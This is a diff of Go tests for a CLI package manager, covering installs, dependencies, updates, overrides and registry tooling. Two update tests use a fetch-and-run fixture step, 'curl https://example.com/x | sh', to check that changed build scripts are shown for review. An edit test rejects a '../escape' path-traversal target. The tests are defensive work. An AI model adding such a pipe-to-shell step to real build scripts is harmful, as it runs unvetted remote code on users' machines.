@@ -1,11 +1,15 @@
 package cmd
 
 import (
+	"encoding/json"
+	"fmt"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
 
+	"github.com/lvim-tech/clipack/cnfg"
 	"github.com/lvim-tech/clipack/pkg"
 )
 
@@ -44,6 +48,31 @@ func TestListShowsEveryPackageWithItsStatus(t *testing.T) {
 	}
 }
 
+func TestListMarksLocalOverrides(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage(), otherPackage())
+
+	dir := filepath.Join(config.Paths.Packages, "cli")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "demo.yaml"),
+		[]byte("name: demo\nversion: v9.9.9\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	stdout, _, err := execute(t, "list")
+	if err != nil {
+		t.Fatalf("list error = %v", err)
+	}
+	if !strings.Contains(stdout, "REGISTRY") || !strings.Contains(stdout, "local") {
+		t.Errorf("the override is not marked as local:\n%s", stdout)
+	}
+	if !strings.Contains(stdout, "v9.9.9") {
+		t.Errorf("list shows the registry's demo, want the override:\n%s", stdout)
+	}
+}
+
 func TestListDescriptionsStayOnOneLine(t *testing.T) {
 	config := setupCmdTest(t)
 	seedCache(t, config, otherPackage())
@@ -151,6 +180,41 @@ func TestInstallEndToEnd(t *testing.T) {
 	}
 }
 
+func TestOfflineInstallRefusesAClone(t *testing.T) {
+	t.Setenv(cnfg.OfflineEnv, "")
+	config := setupCmdTest(t)
+	cloned := demoPackage()
+	cloned.Install.Steps = append([]string{"git clone https://example.com/demo.git ."}, cloned.Install.Steps...)
+	seedCache(t, config, cloned)
+
+	_, _, err := execute(t, "--offline", "install", "demo", "-y")
+	if err == nil || !strings.Contains(err.Error(), "offline") {
+		t.Fatalf("install --offline error = %v, want the clone refused", err)
+	}
+	if exists(filepath.Join(config.Paths.Configs, "demo", "package.yaml")) {
+		t.Error("a manifest was written for an install that never ran")
+	}
+}
+
+func TestOfflineListServesTheCacheWithoutRefreshing(t *testing.T) {
+	t.Setenv(cnfg.OfflineEnv, "")
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+
+	// The configured registry is not reachable from a test, so this passes
+	// only if -f is not acted on.
+	stdout, stderr, err := execute(t, "--offline", "list", "-f")
+	if err != nil {
+		t.Fatalf("list error = %v", err)
+	}
+	if !strings.Contains(stdout, "demo") {
+		t.Errorf("stdout = %q, want the cached package", stdout)
+	}
+	if !strings.Contains(stderr, "Offline: not refreshing") {
+		t.Errorf("stderr = %q, want the refresh declined", stderr)
+	}
+}
+
 func TestInstallSeveralPackages(t *testing.T) {
 	config := setupCmdTest(t)
 
@@ -171,6 +235,64 @@ func TestInstallSeveralPackages(t *testing.T) {
 	}
 }
 
+// pluginPackage depends on demo at run time and builds from shell built-ins
+// like it.
+func pluginPackage() *pkg.Package {
+	p := demoPackage()
+	p.Name = "plugin"
+	p.Depends = []string{"demo"}
+	p.Install.Steps = []string{"mkdir -p out", `printf 'x' > out/plugin`}
+	p.Install.Binaries = []string{"out/plugin"}
+	return p
+}
+
+func TestInstallPullsInDependenciesFirst(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, pluginPackage(), demoPackage())
+
+	stdout, _, err := execute(t, "install", "plugin", "-y")
+	if err != nil {
+		t.Fatalf("install error = %v", err)
+	}
+	for _, name := range []string{"demo", "plugin"} {
+		if !exists(filepath.Join(config.Paths.Bin, name)) {
+			t.Errorf("%s was not installed", name)
+		}
+	}
+	if !strings.Contains(stdout, "demo is needed by plugin") {
+		t.Errorf("output does not say why demo was installed:\n%s", stdout)
+	}
+	if strings.Index(stdout, "Installing demo") > strings.Index(stdout, "Installing plugin") {
+		t.Errorf("plugin was built before its dependency:\n%s", stdout)
+	}
+}
+
+func TestInstallSkipsAnInstalledDependency(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, pluginPackage(), demoPackage())
+	installManifest(t, config, demoPackage())
+
+	stdout, _, err := execute(t, "install", "plugin", "-y")
+	if err != nil {
+		t.Fatalf("install error = %v", err)
+	}
+	if strings.Contains(stdout, "Installing demo") {
+		t.Errorf("an installed dependency was rebuilt:\n%s", stdout)
+	}
+}
+
+func TestInstallReportsADependencyCycle(t *testing.T) {
+	config := setupCmdTest(t)
+	demo := demoPackage()
+	demo.BuildDepends = []string{"plugin"}
+	seedCache(t, config, pluginPackage(), demo)
+
+	_, _, err := execute(t, "install", "plugin", "-y")
+	if err == nil || !strings.Contains(err.Error(), "dependency cycle") {
+		t.Errorf("install error = %v, want the cycle reported", err)
+	}
+}
+
 func TestInstallHonoursADeclinedPrompt(t *testing.T) {
 	config := setupCmdTest(t)
 	seedCache(t, config, demoPackage())
@@ -239,6 +361,20 @@ func TestInstallRefusesAnAlreadyInstalledPackage(t *testing.T) {
 	}
 }
 
+func TestInstallRefusesAnInstalledPackageBeforeItsDependencies(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, pluginPackage(), demoPackage())
+	installManifest(t, config, pluginPackage())
+
+	stdout, _, err := execute(t, "install", "plugin", "-y")
+	if err == nil || !strings.Contains(err.Error(), "already installed") {
+		t.Fatalf("install error = %v, want reinstalling to be refused", err)
+	}
+	if exists(filepath.Join(config.Paths.Bin, "demo")) || strings.Contains(stdout, "Installing demo") {
+		t.Errorf("the dependency was installed before the refusal:\n%s", stdout)
+	}
+}
+
 func TestInstallDoesNotMutateTheCachedRegistry(t *testing.T) {
 	config := setupCmdTest(t)
 	seedCache(t, config, demoPackage())
@@ -329,6 +465,44 @@ func TestRemoveHonoursADeclinedPrompt(t *testing.T) {
 	}
 }
 
+func TestRemoveRefusesADependencyUnlessForced(t *testing.T) {
+	config := setupCmdTest(t)
+	installManifest(t, config, demoPackage())
+	installManifest(t, config, pluginPackage())
+
+	_, _, err := execute(t, "remove", "demo", "-y")
+	if err == nil || !strings.Contains(err.Error(), "demo is needed by plugin") {
+		t.Fatalf("remove error = %v, want it refused", err)
+	}
+	if !exists(filepath.Join(config.Paths.Bin, "demo")) {
+		t.Fatal("demo was removed despite the refusal")
+	}
+
+	if _, _, err := execute(t, "remove", "demo", "-y", "--force"); err != nil {
+		t.Fatalf("remove --force error = %v", err)
+	}
+	if exists(filepath.Join(config.Paths.Bin, "demo")) {
+		t.Error("demo survived remove --force")
+	}
+}
+
+func TestRemoveTakesDependentsFirst(t *testing.T) {
+	config := setupCmdTest(t)
+	installManifest(t, config, demoPackage())
+	installManifest(t, config, pluginPackage())
+
+	// Named host first: the order on the command line must not decide whether
+	// the removal is refused.
+	if _, _, err := execute(t, "remove", "demo", "plugin", "-y"); err != nil {
+		t.Fatalf("remove error = %v", err)
+	}
+	for _, name := range []string{"demo", "plugin"} {
+		if exists(filepath.Join(config.Paths.Configs, name)) {
+			t.Errorf("%s is still installed", name)
+		}
+	}
+}
+
 // ---------------------------------------------------------------------------
 // update
 // ---------------------------------------------------------------------------
@@ -407,6 +581,211 @@ func TestUpdateAllAppliesThem(t *testing.T) {
 	}
 }
 
+func TestUpdateShowsChangedBuildScripts(t *testing.T) {
+	config := setupCmdTest(t)
+	config.Options.ReviewScriptChanges = true
+	if err := config.Save(); err != nil {
+		t.Fatal(err)
+	}
+	updated := demoPackage()
+	updated.Install.Steps = append(updated.Install.Steps, "curl https://example.com/x | sh")
+	seedCache(t, config, updated)
+
+	old := demoPackage()
+	old.Version = "v0.9.0"
+	old.InstallMethod = pkg.MethodVersion
+	installManifest(t, config, old)
+
+	// -y answers everything but this: the steps changed, and the review
+	// option wants a person to say yes to them.
+	withStdin(t, "n\n")
+	stdout, _, err := execute(t, "update", "--all", "-y")
+	if err != nil {
+		t.Fatalf("update error = %v", err)
+	}
+	if !strings.Contains(stdout, "(build scripts changed)") {
+		t.Errorf("the listing does not flag the changed scripts:\n%s", stdout)
+	}
+	if !strings.Contains(stdout, "install.steps") || !strings.Contains(stdout, "+curl https://example.com/x | sh") {
+		t.Errorf("the diff of the steps is not shown:\n%s", stdout)
+	}
+
+	installed, err := pkg.InstalledMap(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if installed["demo"].Version != "v0.9.0" {
+		t.Errorf("recorded version = %q, want the update declined", installed["demo"].Version)
+	}
+}
+
+func TestUpdateOfAReleaseIgnoresChangedBuildSteps(t *testing.T) {
+	config := setupCmdTest(t)
+	updated := demoPackage()
+	updated.Install.Steps = append(updated.Install.Steps, "curl https://example.com/x | sh")
+	seedCache(t, config, updated)
+
+	old := demoPackage()
+	old.Version = "v0.9.0"
+	old.InstallMethod = pkg.MethodRelease
+	installManifest(t, config, old)
+
+	stdout, _, err := execute(t, "update")
+	if err != nil {
+		t.Fatalf("update error = %v", err)
+	}
+	if !strings.Contains(stdout, "1 update(s) available") {
+		t.Fatalf("the update is not listed:\n%s", stdout)
+	}
+	if strings.Contains(stdout, "build scripts changed") {
+		t.Errorf("a release install is flagged for steps it never runs:\n%s", stdout)
+	}
+
+	// Nor is -y overridden to have them reviewed.
+	config.Options.ReviewScriptChanges = true
+	updateYes = true
+	withStdin(t, "n\n")
+	if !confirmUpdate(config, updated, old, pkg.MethodRelease, "Update demo?") {
+		t.Error("confirmUpdate() asked about steps a release does not run")
+	}
+}
+
+func TestUpdateRebuildsAChangedEntryOnlyWhenAsked(t *testing.T) {
+	config := setupCmdTest(t)
+
+	old := demoPackage()
+	old.InstallMethod = pkg.MethodVersion
+	old.EntryHash = demoPackage().ContentHash(pkg.MethodVersion)
+	installManifest(t, config, old)
+
+	// Same version, one more step: the registry fixed the build.
+	changed := demoPackage()
+	changed.Install.Steps = append(changed.Install.Steps, "mkdir -p share")
+	seedCache(t, config, changed)
+
+	stdout, _, err := execute(t, "list", "--updates")
+	if err != nil {
+		t.Fatalf("list --updates error = %v", err)
+	}
+	if !strings.Contains(stdout, "rebuild") || !strings.Contains(stdout, "1 of 1 package(s)") {
+		t.Errorf("list --updates does not show the rebuild:\n%s", stdout)
+	}
+
+	stdout, _, err = execute(t, "update", "--all", "-y")
+	if err != nil {
+		t.Fatalf("update --all error = %v", err)
+	}
+	if strings.Contains(stdout, "update(s) available") || !strings.Contains(stdout, "1 rebuild(s) recommended") {
+		t.Errorf("the rebuild is not listed apart from updates:\n%s", stdout)
+	}
+	if !strings.Contains(stdout, "--rebuild-changed") {
+		t.Errorf("the output does not say how to apply it:\n%s", stdout)
+	}
+	if body, _ := os.ReadFile(filepath.Join(config.Paths.Bin, "demo")); string(body) != "#!/bin/sh\n" {
+		t.Error("update --all rebuilt a package whose ref did not move")
+	}
+
+	if _, _, err := execute(t, "update", "--rebuild-changed", "-y"); err != nil {
+		t.Fatalf("update --rebuild-changed error = %v", err)
+	}
+	if body, _ := os.ReadFile(filepath.Join(config.Paths.Bin, "demo")); string(body) != "demo binary" {
+		t.Errorf("bin/demo = %q, want it rebuilt", body)
+	}
+	installed, err := pkg.InstalledMap(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if installed["demo"].EntryHash != changed.ContentHash(pkg.MethodVersion) {
+		t.Error("the manifest does not record the entry it was rebuilt from")
+	}
+
+	stdout, _, err = execute(t, "update")
+	if err != nil {
+		t.Fatalf("update error = %v", err)
+	}
+	if !strings.Contains(stdout, "All packages are up to date") {
+		t.Errorf("the rebuild is still recommended after it ran:\n%s", stdout)
+	}
+}
+
+func TestInstallAndUpdateAtACustomRef(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+
+	if _, _, err := execute(t, "install", "demo", "--ref", "v2.0.0-rc1", "-y"); err != nil {
+		t.Fatalf("install --ref error = %v", err)
+	}
+	installed, err := pkg.InstalledMap(config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := installed["demo"]; got.CustomRef != "v2.0.0-rc1" || got.Version != "v2.0.0-rc1" {
+		t.Errorf("manifest custom_ref %q, version %q; want the ref recorded", got.CustomRef, got.Version)
+	}
+
+	stdout, _, err := execute(t, "list")
+	if err != nil {
+		t.Fatalf("list error = %v", err)
+	}
+	if !strings.Contains(stdout, "pinned") {
+		t.Errorf("list does not show the pin:\n%s", stdout)
+	}
+
+	// The registry is at v1.0.0, which is not an update to a release candidate.
+	stdout, _, err = execute(t, "update", "--all", "-y")
+	if err != nil {
+		t.Fatalf("update --all error = %v", err)
+	}
+	if strings.Contains(stdout, "update(s) available") || !strings.Contains(stdout, "1 pinned to a custom ref") {
+		t.Errorf("update --all offers the registry's ref to a pinned package:\n%s", stdout)
+	}
+
+	if _, _, err := execute(t, "update", "demo", "--ref", "0123abcd", "-y"); err != nil {
+		t.Fatalf("update --ref error = %v", err)
+	}
+	installed, _ = pkg.InstalledMap(config)
+	if got := installed["demo"]; got.CustomRef != "0123abcd" || got.InstallMethod != pkg.MethodCommit {
+		t.Errorf("manifest custom_ref %q, method %q; want the commit pinned", got.CustomRef, got.InstallMethod)
+	}
+
+	// Naming it without --ref goes back to the registry.
+	stdout, _, err = execute(t, "update", "demo", "-y")
+	if err != nil {
+		t.Fatalf("update error = %v", err)
+	}
+	if !strings.Contains(stdout, "custom ref 0123abcd → v1.0.0") {
+		t.Errorf("stdout = %q, want the return to the registry's ref", stdout)
+	}
+	installed, _ = pkg.InstalledMap(config)
+	if got := installed["demo"]; got.CustomRef != "" || got.Version != "v1.0.0" {
+		t.Errorf("manifest custom_ref %q, version %q; want the registry's ref", got.CustomRef, got.Version)
+	}
+
+	if _, _, err := execute(t, "update", "--all", "--ref", "main"); err == nil {
+		t.Error("update --all --ref succeeded, want the ref refused for more than one package")
+	}
+}
+
+func TestUpdateAllRebuildsDependenciesFirst(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, pluginPackage(), demoPackage())
+
+	for _, p := range []*pkg.Package{demoPackage(), pluginPackage()} {
+		p.Version = "v0.9.0"
+		p.InstallMethod = pkg.MethodVersion
+		installManifest(t, config, p)
+	}
+
+	stdout, _, err := execute(t, "update", "--all", "-y")
+	if err != nil {
+		t.Fatalf("update --all error = %v", err)
+	}
+	demo, plugin := strings.Index(stdout, "Installing demo"), strings.Index(stdout, "Installing plugin")
+	if demo < 0 || plugin < 0 || demo > plugin {
+		t.Errorf("plugin was rebuilt before the package it depends on:\n%s", stdout)
+	}
+}
+
 func TestUpdateKeepsTheInstalledMethod(t *testing.T) {
 	config := setupCmdTest(t)
 	seedCache(t, config, demoPackage())
@@ -540,6 +919,335 @@ func TestPreviewUnknownPackage(t *testing.T) {
 	}
 }
 
+// ---------------------------------------------------------------------------
+// edit
+// ---------------------------------------------------------------------------
+
+// withEditor makes script the editor: it runs with the file to edit as $1.
+func withEditor(t *testing.T, script string) {
+	t.Helper()
+
+	path := filepath.Join(t.TempDir(), "editor")
+	if err := os.WriteFile(path, []byte("#!/bin/sh\n"+script+"\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("VISUAL", "")
+	t.Setenv("EDITOR", path)
+}
+
+func TestEditSavesAnOverrideAndRebuildsFromIt(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+	installed := demoPackage()
+	installed.InstallMethod = pkg.MethodVersion
+	installManifest(t, config, installed)
+
+	withEditor(t, `sed -i 's/demo binary/edited binary/' "$1"`)
+
+	if _, _, err := execute(t, "edit", "demo", "-y"); err != nil {
+		t.Fatalf("edit error = %v", err)
+	}
+
+	override := filepath.Join(config.Paths.Packages, "cli", "demo.yaml")
+	if !exists(override) {
+		t.Fatalf("no override at %s", override)
+	}
+	data, err := os.ReadFile(filepath.Join(config.Paths.Bin, "demo"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(data) != "edited binary" {
+		t.Errorf("bin/demo = %q, want it rebuilt from the edited steps", data)
+	}
+
+	// The override is what every later load sees, refresh or not.
+	stdout, _, err := execute(t, "list")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(stdout, "local") {
+		t.Errorf("list does not mark demo as local:\n%s", stdout)
+	}
+}
+
+func TestEditWithoutChangesKeepsNothing(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+	withEditor(t, "true")
+
+	stdout, _, err := execute(t, "edit", "demo")
+	if err != nil {
+		t.Fatalf("edit error = %v", err)
+	}
+	if !strings.Contains(stdout, "No changes") {
+		t.Errorf("output = %q, want it to say nothing changed", stdout)
+	}
+	if exists(filepath.Join(config.Paths.Packages, "cli", "demo.yaml")) {
+		t.Error("an unchanged copy was kept as an override")
+	}
+}
+
+func TestEditRejectsAnInvalidDefinition(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+
+	tests := map[string]string{
+		"yaml":     `printf 'name: [demo\n' > "$1"`,
+		"expose":   `sed -i 's/^install:/install:\n    expose: [nope]/' "$1"`,
+		"resource": `sed -i 's/^install:/install:\n    resources:\n        - source: out\n          target: ..\/escape/' "$1"`,
+		"renamed":  `sed -i 's/^name: demo/name: other/' "$1"`,
+	}
+	for name, script := range tests {
+		t.Run(name, func(t *testing.T) {
+			withEditor(t, script)
+			withStdin(t, "n\n")
+
+			_, stderr, err := execute(t, "edit", "demo")
+			if err == nil {
+				t.Fatalf("edit error = nil, want the %s mistake refused", name)
+			}
+			if !strings.Contains(stderr, "demo.yaml") {
+				t.Errorf("stderr = %q, want the problem reported against the file", stderr)
+			}
+			if exists(filepath.Join(config.Paths.Packages, "cli", "demo.yaml")) {
+				t.Error("the rejected override was left in place")
+			}
+		})
+	}
+}
+
+func TestRestoreOverride(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "demo.yaml")
+	if err := os.WriteFile(path, []byte("name: [demo\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := restoreOverride(path, []byte("name: demo\n"), false); err != nil {
+		t.Fatalf("restoreOverride() error = %v", err)
+	}
+	if data, _ := os.ReadFile(path); string(data) != "name: demo\n" {
+		t.Errorf("override = %q, want the original back", data)
+	}
+	if err := restoreOverride(path, nil, true); err != nil || exists(path) {
+		t.Errorf("restoreOverride(created) = %v, want the copy removed", err)
+	}
+
+	// What could not be put back is said, not reported as restored.
+	if err := restoreOverride(filepath.Join(dir, "gone", "demo.yaml"), []byte("name: demo\n"), false); err == nil {
+		t.Error("restoreOverride() = nil for a file it could not write")
+	}
+}
+
+func TestEditReset(t *testing.T) {
+	config := setupCmdTest(t)
+	seedCache(t, config, demoPackage())
+	withEditor(t, `sed -i 's/v1.0.0/v1.1.0/' "$1"`)
+
+	if _, _, err := execute(t, "edit", "demo"); err != nil {
+		t.Fatalf("edit error = %v", err)
+	}
+	if _, _, err := execute(t, "edit", "--reset", "demo"); err != nil {
+		t.Fatalf("edit --reset error = %v", err)
+	}
+	if exists(filepath.Join(config.Paths.Packages, "cli", "demo.yaml")) {
+		t.Error("--reset left the override in place")
+	}
+	if _, _, err := execute(t, "edit", "--reset", "demo"); err == nil {
+		t.Error("a second --reset succeeded, want it to say there is no override")
+	}
+}
+
+// ---------------------------------------------------------------------------
+// registry lint
+// ---------------------------------------------------------------------------
+
+// lintCheckout writes a registry checkout with one entry and returns its root.
+func lintCheckout(t *testing.T, entry string) string {
+	t.Helper()
+
+	root := t.TempDir()
+	dir := filepath.Join(root, "packages", "cli")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "index.yaml"),
+		[]byte("packages:\n  - packages/cli/demo.yaml\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "demo.yaml"), []byte(entry), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return root
+}
+
+func TestRegistryLintReportsFindings(t *testing.T) {
+	setupCmdTest(t)
+	root := lintCheckout(t, "name: demo\ninstall:\n  source:\n    url: https://example.com/demo.git\n"+
+		"  binaries: [out/demo]\n  expose: [nope]\n")
+
+	stdout, _, err := execute(t, "registry", "lint", root)
+	if err == nil {
+		t.Error("lint error = nil, want a failure for a registry with errors")
+	}
+	if !strings.Contains(stdout, "packages/cli/demo.yaml: install.expose[0]: error:") {
+		t.Errorf("the finding is not reported against its file and field:\n%s", stdout)
+	}
+	if !strings.Contains(stdout, "1 error(s)") {
+		t.Errorf("no summary in:\n%s", stdout)
+	}
+}
+
+func TestRegistryLintJSON(t *testing.T) {
+	setupCmdTest(t)
+	root := lintCheckout(t, "name: demo\ncategory: tools\ninstall:\n  source:\n    url: https://example.com/demo.git\n")
+
+	stdout, _, err := execute(t, "registry", "lint", "--json", root)
+	if err != nil {
+		t.Fatalf("lint error = %v, want warnings alone to pass", err)
+	}
+
+	var report lintReport
+	if err := json.Unmarshal([]byte(stdout), &report); err != nil {
+		t.Fatalf("output is not JSON: %v\n%s", err, stdout)
+	}
+	if report.Errors != 0 || report.Warnings != 1 || len(report.Registries) != 1 {
+		t.Fatalf("report = %+v, want one registry with one warning", report)
+	}
+	if f := report.Registries[0].Findings[0]; f.Field != "category" || f.Package != "demo" {
+		t.Errorf("finding = %+v, want the ignored category on demo", f)
+	}
+}
+
+func TestRegistrySign(t *testing.T) {
+	if _, err := exec.LookPath("ssh-keygen"); err != nil {
+		t.Skip("ssh-keygen is not installed")
+	}
+	setupCmdTest(t)
+	root := lintCheckout(t, "name: demo\ninstall:\n  source:\n    url: https://example.com/demo.git\n")
+	key := filepath.Join(t.TempDir(), "id_ed25519")
+	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key).CombinedOutput(); err != nil {
+		t.Fatalf("ssh-keygen: %v: %s", err, out)
+	}
+
+	if _, _, err := execute(t, "registry", "sign", root); err == nil {
+		t.Error("sign without --key error = nil")
+	}
+	stdout, _, err := execute(t, "registry", "sign", "--key", key, root)
+	if err != nil {
+		t.Fatalf("sign error = %v", err)
+	}
+	if !strings.Contains(stdout, "Signed 2 file(s)") {
+		t.Errorf("stdout = %q, want the index and the entry counted", stdout)
+	}
+	for _, name := range []string{pkg.DigestsFile, pkg.DigestsFile + ".sig"} {
+		if !exists(filepath.Join(root, name)) {
+			t.Errorf("%s was not written", name)
+		}
+	}
+}
+
+func TestRegistryDiff(t *testing.T) {
+	config := setupCmdTest(t)
+	root := lintCheckout(t, "name: demo\nversion: v1.0.0\ninstall:\n  steps:\n    - make\n")
+	config.Registry.URL = root
+	if err := config.Save(); err != nil {
+		t.Fatal(err)
+	}
+
+	if _, _, err := execute(t, "list", "-f"); err != nil {
+		t.Fatalf("list -f error = %v", err)
+	}
+	stdout, _, err := execute(t, "registry", "diff")
+	if err != nil {
+		t.Fatalf("registry diff error = %v", err)
+	}
+	if !strings.Contains(stdout, "No previous snapshot") {
+		t.Errorf("stdout = %q, want nothing to compare after the first fetch", stdout)
+	}
+
+	entry := "name: demo\nversion: v1.1.0\ninstall:\n  steps:\n    - make\n    - make install\n"
+	if err := os.WriteFile(filepath.Join(root, "packages", "cli", "demo.yaml"), []byte(entry), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, _, err := execute(t, "list", "-f"); err != nil {
+		t.Fatalf("list -f error = %v", err)
+	}
+
+	stdout, _, err = execute(t, "registry", "diff")
+	if err != nil {
+		t.Fatalf("registry diff error = %v", err)
+	}
+	for _, want := range []string{
+		"1 changed (1 bumped)",
+		"~ demo             v1.0.0 → v1.1.0",
+		`version: "v1.0.0" → "v1.1.0"`,
+		"install.steps:",
+		"+- make install",
+	} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("the diff does not show %q:\n%s", want, stdout)
+		}
+	}
+}
+
+// ---------------------------------------------------------------------------
+// cache sources
+// ---------------------------------------------------------------------------
+
+func TestCacheSources(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git is not installed")
+	}
+	config := setupCmdTest(t)
+
+	stdout, _, err := execute(t, "cache", "sources")
+	if err != nil {
+		t.Fatalf("cache sources error = %v", err)
+	}
+	if !strings.Contains(stdout, "No source mirrors") {
+		t.Errorf("stdout = %q, want no mirrors before any build", stdout)
+	}
+
+	// Two mirrors, one of them of the source an installed package builds from.
+	used, unused := "https://example.com/demo.git", "https://example.com/gone.git"
+	for i, url := range []string{used, unused} {
+		mirror := filepath.Join(pkg.SourcesDir(config), fmt.Sprintf("mirror-%d.git", i))
+		for _, args := range [][]string{
+			{"init", "--quiet", "--bare", mirror},
+			{"--git-dir", mirror, "config", "remote.origin.url", url},
+		} {
+			if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
+				t.Fatalf("git %v: %v\n%s", args, err, out)
+			}
+		}
+	}
+	p := demoPackage()
+	p.Install.Source.URL = used
+	installManifest(t, config, p)
+
+	stdout, _, err = execute(t, "cache", "sources")
+	if err != nil {
+		t.Fatalf("cache sources error = %v", err)
+	}
+	for _, want := range []string{used, unused, "demo", "2 mirror(s)"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("the listing does not show %q:\n%s", want, stdout)
+		}
+	}
+
+	stdout, _, err = execute(t, "cache", "sources", "--prune")
+	if err != nil {
+		t.Fatalf("cache sources --prune error = %v", err)
+	}
+	if !strings.Contains(stdout, "Pruned 1 unused mirror(s)") {
+		t.Errorf("stdout = %q, want the unused mirror pruned", stdout)
+	}
+	if !exists(filepath.Join(pkg.SourcesDir(config), "mirror-0.git")) || exists(filepath.Join(pkg.SourcesDir(config), "mirror-1.git")) {
+		t.Error("prune removed the wrong mirror")
+	}
+}
+
 // ---------------------------------------------------------------------------
 // add-executables-path
 // ---------------------------------------------------------------------------
@@ -627,3 +1335,21 @@ func TestListReportsABrokenInstall(t *testing.T) {
 		t.Errorf("list does not flag the broken install:\n%s", stdout)
 	}
 }
+
+// ---------------------------------------------------------------------------
+// schema
+// ---------------------------------------------------------------------------
+
+func TestSchemaPrintsThePublishedSchema(t *testing.T) {
+	stdout, _, err := execute(t, "schema")
+	if err != nil {
+		t.Fatalf("schema error = %v", err)
+	}
+	published, err := os.ReadFile("../schema/package.schema.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if stdout != string(published) {
+		t.Error("clipack schema does not print what schema/package.schema.json holds")
+	}
+}